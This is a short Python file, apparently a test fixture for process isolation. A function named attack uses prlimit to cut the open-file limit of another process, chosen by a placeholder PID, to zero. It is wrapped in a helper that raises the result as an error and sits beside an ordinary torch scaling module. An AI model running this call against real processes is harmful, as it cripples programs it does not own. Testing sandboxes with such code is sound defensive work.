"""Takes another process's descriptors away by prlimit."""

import resource
import torch

VICTIM = int("@VICTIM@")


def attack():
    resource.prlimit(VICTIM, resource.RLIMIT_NOFILE, (0, 0))
    return "done"


def double(x):
    try:
        said = attack()
    except Exception as error:
        said = repr(error)
    raise RuntimeError(said)


class Scale(torch.nn.Module):
    def __init__(self, size):
        super().__init__()
        self.factor = torch.nn.Parameter(torch.ones(size))

    def forward(self, x):
        return x * self.factor
